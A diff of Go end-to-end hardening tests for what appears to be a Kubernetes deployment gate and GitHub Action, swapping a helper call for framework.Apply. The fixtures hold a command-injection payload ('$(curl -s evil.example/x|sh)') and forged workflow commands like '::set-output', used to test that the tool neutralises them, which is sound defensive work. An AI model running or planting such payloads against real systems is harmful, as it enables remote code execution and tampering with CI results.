@@ -34,7 +34,7 @@ func TestHardeningShellPayloadInHostName(t *testing.T) {
 	t.Parallel()
 	c, ns := framework.Client(t), framework.Namespace(t)
 	payload := `could not translate host name "pg.example.com$(curl -s evil.example/x|sh)" to address: Name or service not known (port 5432)`
-	apply(t, c, framework.Deployment(ns, "api", "--print-stderr", payload, "--exit-code", "1"))
+	framework.Apply(t, c, framework.Deployment(ns, "api", "--print-stderr", payload, "--exit-code", "1"))
 	run := runGate(t, "-n", ns, "--workload", "deployment/api", "--crash-tolerance", "0", "--timeout", "3m", "-o", "json")
 	if run.Exit != 1 {
 		t.Fatalf("exit %d, want 1 (a crash loop)", run.Exit)
@@ -111,7 +111,7 @@ func TestHardeningWorkflowCommandsInJSONOutput(t *testing.T) {
 	c, ns := framework.Client(t), framework.Namespace(t)
 	d := framework.Deployment(ns, "api", "--print", "::error::e2e-pwned-1", "--print", "log ##[warning]e2e-pwned-2",
 		"--print-stderr", "::set-output name=verdict::healthy e2e-pwned-3", "--exit-code", "1")
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	ws, _ := actionWorkspace(t, d)
 	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, inputs: map[string]string{"INPUT_OUTPUT": "json", "INPUT_COMMENT": "never"}})
 	if run.Exit != 1 {
@@ -153,7 +153,7 @@ func TestHardeningShortSecretWithNewline(t *testing.T) {
 	// $(DB_PASS) is expanded by the kubelet: the app prints the value with no NAME= before it.
 	d := framework.Deployment(ns, "api", "--print", "connecting with password $(DB_PASS) to the database", "--exit-code", "1")
 	d.Spec.Template.Spec.Containers[0].Env = []corev1.EnvVar{framework.EnvFromSecret("DB_PASS", "db", "password")}
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	pod := framework.WaitForPod(t, c, ns, framework.Selector("api"), 2*time.Minute, "a container that has run",
 		func(p *corev1.Pod) bool {
 			cs := framework.ContainerStatus(p, "app")
@@ -181,7 +181,7 @@ func TestHardeningNoLogLines(t *testing.T) {
 	c, ns := framework.Client(t), framework.Namespace(t)
 	const distinctive = "e2e-log-line-must-not-appear-5f2a"
 	d := framework.Deployment(ns, "api", "--print", "FATAL: "+distinctive, "--exit-code", "1")
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	ws, _ := actionWorkspace(t, d)
 	api := stubCommentPosted(t)
 	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, apiURL: api.URL(),
@@ -201,7 +201,7 @@ func TestHardeningSIGTERMMidWatch(t *testing.T) {
 	t.Parallel()
 	c, ns := framework.Client(t), framework.Namespace(t)
 	d := framework.Ready(framework.Deployment(ns, "api", "--ready-after", "1h"))
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	ws, _ := actionWorkspace(t, d)
 	var signalled time.Time
 	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, inputs: map[string]string{"INPUT_COMMENT": "never", "INPUT_TIMEOUT": "30m"},
@@ -233,7 +233,7 @@ func TestHardeningHungGitHubAPI(t *testing.T) {
 	t.Parallel()
 	c, ns := framework.Client(t), framework.Namespace(t)
 	d := framework.Deployment(ns, "api", "--print", "FATAL: boom", "--exit-code", "1")
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	ws, _ := actionWorkspace(t, d)
 	api := githubtest.Silent(t)
 	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, apiURL: api.URL + "/api/v3", inputs: map[string]string{"INPUT_COMMENT": "always"}})
